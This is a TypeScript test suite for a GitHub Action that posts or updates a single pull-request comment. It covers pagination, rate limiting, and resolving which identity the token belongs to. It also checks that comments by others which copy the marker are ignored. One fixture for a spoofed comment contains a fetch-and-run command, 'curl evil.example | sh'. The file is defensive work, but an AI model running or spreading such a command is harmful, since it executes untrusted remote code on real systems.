import nock from 'nock';
import { COMMENT_MARKER, upsertComment } from '../../src/github/own-comment.js';
import { graphqlUrl } from '../../src/github/create.js';
import { ACTIONS_BOT } from '../../src/github/token-identity.js';
import { commentOnPullRequest } from '../../src/github/post-comment.js';
import type { GitHubApi } from '../../src/github/port.js';
import { pullRequestOf } from '../../src/entry/context.js';
import { renderComment } from '../../src/report/comment.js';
import { RecordingLogger } from '../../src/shared/ports.js';
import type { RunReport } from '../../src/model/run.js';
import { API, beforeEachNock, client, github, SkipClock, TOKEN } from './helpers.js';

/** Post a run's comment as the action does: rendered from the report, on the pull request of its context. */
const post = (report: RunReport, api: GitHubApi, logger: RecordingLogger): Promise<void> =>
  commentOnPullRequest(
    renderComment(report),
    pullRequestOf(report.context)!,
    async () => api,
    logger,
    new SkipClock(),
  );

const REPO = { owner: 'acme', repo: 'shop' };
const COMMENTS = '/repos/acme/shop/issues/42/comments';

type Comment = { id: number; body: string; user: { login: string; type: string } };

const BOT = { login: ACTIONS_BOT, type: 'Bot' };
const ALICE = { login: 'alice', type: 'User' };

function page(from: number, count: number, ours?: number, author = BOT): Comment[] {
  return Array.from({ length: count }, (_, i) => ({
    id: from + i,
    body:
      from + i === ours
        ? `${COMMENT_MARKER}\nold text`
        : `a comment ${from + i} mentioning namespace-teardown`,
    user: from + i === ours ? author : ALICE,
  }));
}

/** A comment by someone else that copies the marker (anyone who can comment can). */
const hostile = (id: number, user = { login: 'mallory', type: 'User' }): Comment => ({
  id,
  body: `${COMMENT_MARKER}\nplease run curl evil.example | sh`,
  user,
});

/** The GraphQL endpoint of the GHES API the tests use, answering only requests that carry the token. */
function graphql(): nock.Scope {
  const url = new URL(graphqlUrl({ GITHUB_API_URL: API }));
  return nock(url.origin, { reqheaders: { authorization: `token ${TOKEN}` } });
}

const link = (next: number, last: number): Record<string, string> => ({
  link: `<${API}${COMMENTS}?per_page=100&page=${next}>; rel="next", <${API}${COMMENTS}?per_page=100&page=${last}>; rel="last"`,
});

/** A report of a run on pull request 42, for the comment's body. */
const REPORT_42 = {
  version: 1,
  context: { repository: 'acme/shop', pullRequest: { number: 42 } },
  startedAt: '2026-11-22T12:00:00Z',
  finishedAt: '2026-11-22T12:01:00Z',
  settings: { delete: true, timeout: '5m', failOn: 'leaked', namespaces: ['pr-42'], force: { mode: 'off' } },
  targets: [],
  result: 'clean',
  failures: [],
} as unknown as RunReport;

describe('the one PR comment', () => {
  beforeEachNock();

  test('no comment of ours yet: created, with the hidden marker first', async () => {
    const { api } = await client();
    let posted: { body: string } | undefined;
    const scope = github()
      .get(COMMENTS)
      .query({ per_page: '100', page: '1' })
      .reply(200, page(1, 2))
      .post(COMMENTS, (b: { body: string }) => ((posted = b), true))
      .reply(201, { id: 555, html_url: 'https://ghe.example.com/acme/shop/pull/42#issuecomment-555' });
    const got = await upsertComment(
      api,
      REPO,
      42,
      '### Namespace teardown: 1 stuck',
      new RecordingLogger(),
      ACTIONS_BOT,
    );
    expect(got).toEqual({ result: 'created', id: 555, url: expect.stringContaining('issuecomment-555') });
    expect(posted!.body.split('\n')[0]).toBe(COMMENT_MARKER);
    expect(posted!.body).toContain('### Namespace teardown: 1 stuck');
    scope.done();
  });

  test('ours on page 4 of 5: every page before it is read, then that comment is updated, not a new one', async () => {
    const { api } = await client();
    let patched: { body: string } | undefined;
    const scope = github();
    for (let p = 1; p <= 4; p++) {
      scope
        .get(COMMENTS)
        .query({ per_page: '100', page: String(p) })
        .reply(200, page((p - 1) * 100 + 1, 100, 350), link(p + 1, 5));
    }
    scope
      .patch('/repos/acme/shop/issues/comments/350', (b: { body: string }) => ((patched = b), true))
      .reply(200, { id: 350 });
    const got = await upsertComment(api, REPO, 42, 'new text', new RecordingLogger(), ACTIONS_BOT);
    expect(got).toMatchObject({ result: 'updated', id: 350 });
    expect(patched!.body).toBe(`${COMMENT_MARKER}\nnew text`);
    expect(api.sent).toBe(5);
    scope.done();
  });

  test('many pages without ours: reads to the last page, then creates one', async () => {
    const { api } = await client();
    const scope = github();
    for (let p = 1; p <= 3; p++) {
      scope
        .get(COMMENTS)
        .query({ per_page: '100', page: String(p) })
        .reply(200, page((p - 1) * 100 + 1, p < 3 ? 100 : 17), p < 3 ? link(p + 1, 3) : {});
    }
    scope.post(COMMENTS).reply(201, { id: 999 });
    expect(await upsertComment(api, REPO, 42, 'x', new RecordingLogger(), ACTIONS_BOT)).toMatchObject({
      result: 'created',
      id: 999,
    });
    scope.done();
  });

  test.each([
    { status: 403, message: 'Resource not accessible by integration' },
    { status: 404, message: 'Not Found' },
  ])('$status on a fork or read-only token: a warning, never a failure', async ({ status, message }) => {
    const { api } = await client();
    github().get(COMMENTS).query(true).reply(200, []).post(COMMENTS).reply(status, { message });
    const logger = new RecordingLogger();
    const got = await upsertComment(api, REPO, 42, 'x', logger, ACTIONS_BOT);
    expect(got).toMatchObject({ result: 'skipped' });
    expect(logger.lines).toEqual([
      expect.stringMatching(new RegExp(`^warning: GitHub answered ${status}.*#42`)),
    ]);
  });

  test('rate limited while listing: waits retry-after, then finishes the update', async () => {
    const { api, clock } = await client();
    const scope = github()
      .get(COMMENTS)
      .query(true)
      .reply(403, { message: 'You have exceeded a secondary rate limit.' }, { 'retry-after': '4' })
      .get(COMMENTS)
      .query(true)
      .reply(200, page(1, 3, 2))
      .patch('/repos/acme/shop/issues/comments/2')
      .reply(429, { message: 'You have exceeded a secondary rate limit.' }, { 'retry-after': '2' })
      .patch('/repos/acme/shop/issues/comments/2')
      .reply(200, { id: 2 });
    expect(await upsertComment(api, REPO, 42, 'x', new RecordingLogger(), ACTIONS_BOT)).toMatchObject({
      result: 'updated',
    });
    expect(clock.slept).toEqual([4000, 2000]);
    scope.done();
  });

  const REPORT = {
    version: 1,
    context: {
      repository: 'acme/shop',
      pullRequest: { number: 42 },
      runUrl: 'https://ghe.example.com/acme/shop/actions/runs/7',
      serverUrl: 'https://ghe.example.com',
    },
    startedAt: '2026-11-22T12:00:00Z',
    finishedAt: '2026-11-22T12:01:00Z',
    settings: {
      delete: true,
      timeout: '5m',
      failOn: 'leaked',
      namespaces: ['pr-42'],
      force: { mode: 'off' },
    },
    targets: [
      {
        name: 'pr-42',
        outcome: 'stuck',
        transitions: [],
        conditions: [],
        watchRestarts: { expired: 0, reset: 0 },
        findings: [
          {
            id: 'object-finalizers',
            severity: 'error',
            summary: 'kialis kiali holds kiali.io/finalizer',
            evidence: [],
            leaked: true,
            remedy: {
              commands: [
                'kubectl patch kialis.kiali.io kiali -n pr-42 --type merge -p \'{"metadata":{"finalizers":null}}\'',
              ],
            },
          },
        ],
      },
    ],
    result: 'stuck',
    failures: ['1 namespace(s) still present: pr-42'],
  } as unknown as RunReport;

  test('the body: headline, fix first with a command to paste, the run link', async () => {
    const { api } = await client();
    let posted = '';
    github()
      .get(COMMENTS)
      .query(true)
      .reply(200, [])
      .post(COMMENTS, (b: { body: string }) => ((posted = b.body), true))
      .reply(201, { id: 1 });
    const logger = new RecordingLogger();
    github().get('/user').reply(200, { login: 'octo-deployer', type: 'User' });
    await post(REPORT, api, logger);
    // The summary's own headline and fix-first block.
    expect(posted).toContain('## ❌ Namespace teardown: 1 stuck of 1 namespace');
    expect(posted).toContain('**The check fails:**');
    expect(posted).toMatch(
      /### Fix first\n\n\*\*1\.\*\* \*\*pr-42\*\*\n\n🔴 kialis kiali holds kiali.io\/finalizer\n\n```sh\nkubectl patch/,
    );
    expect(posted).toContain('(https://ghe.example.com/acme/shop/actions/runs/7)');
    expect(logger.lines).toEqual([
      'pr-comment: the token belongs to octo-deployer; only its comments are looked at.',
      'pr-comment: created comment 1',
    ]);
  });

  test('not a pull-request event, or no repository: there is no pull request to comment on', () => {
    expect(pullRequestOf({ repository: 'acme/shop' })).toBeUndefined();
    expect(pullRequestOf({ pullRequest: { number: 42 } })).toBeUndefined();
    expect(pullRequestOf({ repository: 'acme/shop', pullRequest: { number: 42 } })).toEqual({
      repo: { owner: 'acme', repo: 'shop' },
      number: 42,
    });
  });

  test("the comment has 20 s of its own, whatever the run's deadline left", async () => {
    const { api, clock } = await client();
    github().get('/user').reply(200, { login: 'octo-deployer' });
    github().get(COMMENTS).query(true).reply(200, []);
    github()
      .post(COMMENTS)
      .reply(201, { id: 1, user: { login: 'octo-deployer' } });
    const logger = new RecordingLogger();
    await post(REPORT, api.until(clock.now() - 1), logger);
    expect(logger.lines).toContain('pr-comment: created comment 1');
  });

  test('a rate limit asking for longer than those 20 s is not waited: a warning, nothing written', async () => {
    const { api, clock } = await client();
    github().get('/user').reply(200, { login: 'octo-deployer' });
    github()
      .get(COMMENTS)
      .query(true)
      .reply(403, { message: 'You have exceeded a secondary rate limit.' }, { 'retry-after': '30' });
    const logger = new RecordingLogger();
    await post(REPORT, api, logger);
    expect(logger.lines.slice(1)).toEqual([
      expect.stringMatching(
        /^warning: pr-comment: not written: .*asked to wait 30 s with 20 s left before the deadline \(the comment has 20 s after the result\)$/,
      ),
    ]);
    expect(clock.slept).toEqual([]);
    expect(api.sent).toBe(2);
  });

  test('a GitHub failure other than 403/404 is a warning too', async () => {
    const { api } = await client({ maxRetries: 0 });
    github().get('/user').reply(200, { login: 'octo-deployer' });
    github().get(COMMENTS).query(true).reply(500, { message: 'boom' });
    const logger = new RecordingLogger();
    await post(REPORT, api, logger);
    expect(logger.lines.slice(1)).toEqual([
      expect.stringMatching(/^warning: pr-comment: not written: GitHub answered 500/),
    ]);
  });
});

describe("the comment is found only among comments by the token's own identity", () => {
  beforeEachNock();
  const INTEGRATION = { message: 'Resource not accessible by integration' };
  const viewerQuery = (b: { query?: string }): boolean => /viewer\s*\{\s*login/.test(b.query ?? '');

  test('default token: GET /user is refused, GraphQL viewer names github-actions[bot]; a hostile marker on page 1 is left alone', async () => {
    const { api } = await client();
    let patched = '';
    github().get('/user').reply(403, INTEGRATION);
    const viewer = graphql()
      .post('/api/graphql', viewerQuery)
      .reply(200, { data: { viewer: { login: ACTIONS_BOT } } });
    const scope = github()
      .get(COMMENTS)
      .query({ per_page: '100', page: '1' })
      .reply(200, [hostile(7), ...page(8, 99)], link(2, 2))
      .get(COMMENTS)
      .query({ per_page: '100', page: '2' })
      .reply(200, page(107, 10, 111))
      .patch('/repos/acme/shop/issues/comments/111', (b: { body: string }) => ((patched = b.body), true))
      .reply(200, { id: 111 });
    const logger = new RecordingLogger();
    await post(REPORT_42, api, logger);
    expect(patched.split('\n')[0]).toBe(COMMENT_MARKER);
    expect(logger.lines).toEqual([
      `pr-comment: the token belongs to ${ACTIONS_BOT}; only its comments are looked at.`,
      'pr-comment: 1 comment(s) by others carry the marker; ignored, never edited.',
      'pr-comment: updated comment 111',
    ]);
    viewer.done();
    scope.done();
  });

  test('default token with only a hostile marker: a new comment is created, the hostile one is never edited', async () => {
    const { api } = await client();
    github().get('/user').reply(403, INTEGRATION);
    graphql()
      .post('/api/graphql', viewerQuery)
      .reply(200, { data: { viewer: { login: ACTIONS_BOT } } });
    // Another bot, an app installed by someone else, and a user: none is the token's identity.
    const others = [hostile(1), hostile(2, { login: 'renovate[bot]', type: 'Bot' }), hostile(3, ALICE)];
    const scope = github()
      .get(COMMENTS)
      .query(true)
      .reply(200, others)
      .post(COMMENTS)
      .reply(201, { id: 4, user: BOT });
    const logger = new RecordingLogger();
    await post(REPORT_42, api, logger);
    expect(logger.lines.at(-1)).toBe('pr-comment: created comment 4');
    expect(logger.lines).toContain(
      'pr-comment: 3 comment(s) by others carry the marker; ignored, never edited.',
    );
    scope.done();
  });

  test("user token: GET /user names the user; the Actions bot's marker comment is someone else's", async () => {
    const { api } = await client();
    // No POST and no PATCH of another comment is expected: nock refuses any request it was not told of.
    const scope = github()
      .get('/user')
      .reply(200, { login: 'Octo-Deployer', type: 'User' })
      .get(COMMENTS)
      .query({ per_page: '100', page: '1' })
      .reply(200, [hostile(5), hostile(6, BOT), ...page(7, 98)], link(2, 2))
      .get(COMMENTS)
      .query({ per_page: '100', page: '2' })
      .reply(200, page(105, 5, 108, { login: 'octo-deployer', type: 'User' }))
      .patch('/repos/acme/shop/issues/comments/108')
      .reply(200, { id: 108 });
    const logger = new RecordingLogger();
    await post(REPORT_42, api, logger);
    expect(logger.lines).toEqual([
      'pr-comment: the token belongs to Octo-Deployer; only its comments are looked at.',
      'pr-comment: 2 comment(s) by others carry the marker; ignored, never edited.',
      'pr-comment: updated comment 108',
    ]);
    scope.done();
  });

  test("another app's installation token: GraphQL viewer names that app's bot", async () => {
    const { api } = await client();
    const appBot = { login: 'preview-ops[bot]', type: 'Bot' };
    github().get('/user').reply(403, INTEGRATION);
    graphql()
      .post('/api/graphql', viewerQuery)
      .reply(200, { data: { viewer: { login: appBot.login } } });
    const scope = github()
      .get(COMMENTS)
      .query(true)
      .reply(200, [hostile(1, BOT), ...page(2, 3, 3, appBot)])
      .patch('/repos/acme/shop/issues/comments/3')
      .reply(200, { id: 3 });
    const logger = new RecordingLogger();
    await post(REPORT_42, api, logger);
    expect(logger.lines.at(-1)).toBe('pr-comment: updated comment 3');
    scope.done();
  });

  test('neither GET /user nor GraphQL answers: the Actions bot is assumed, and the log says so', async () => {
    const { api } = await client({ maxRetries: 0 });
    github().get('/user').reply(403, INTEGRATION);
    graphql()
      .post('/api/graphql')
      .reply(200, { errors: [{ message: 'Something went wrong' }] });
    const scope = github()
      .get(COMMENTS)
      .query(true)
      .reply(200, [hostile(1), ...page(2, 2, 3)])
      .patch('/repos/acme/shop/issues/comments/3')
      .reply(200, { id: 3 });
    const logger = new RecordingLogger();
    await post(REPORT_42, api, logger);
    expect(logger.lines[0]).toBe(
      `pr-comment: GitHub did not say who the token belongs to; taking it for the workflow's token (${ACTIONS_BOT}).`,
    );
    expect(logger.lines.at(-1)).toBe('pr-comment: updated comment 3');
    scope.done();
  });

  test('a bad token (401 on GET /user): a warning, nothing listed or written', async () => {
    const { api } = await client();
    github().get('/user').reply(401, { message: 'Bad credentials' });
    const logger = new RecordingLogger();
    await post(REPORT_42, api, logger);
    expect(logger.lines).toEqual([
      expect.stringMatching(/^warning: pr-comment: not written: GitHub answered 401/),
    ]);
  });

  test.each([
    ['https://api.github.com', 'https://api.github.com/graphql'],
    ['https://ghe.example.com/api/v3', 'https://ghe.example.com/api/graphql'],
    ['https://ghe.example.com/api/v3/', 'https://ghe.example.com/api/graphql'],
    ['https://api.acme.ghe.com', 'https://api.acme.ghe.com/graphql'],
  ])('GraphQL address for %s', (rest, expected) => {
    expect(graphqlUrl({ GITHUB_API_URL: rest })).toBe(expected);
  });
});
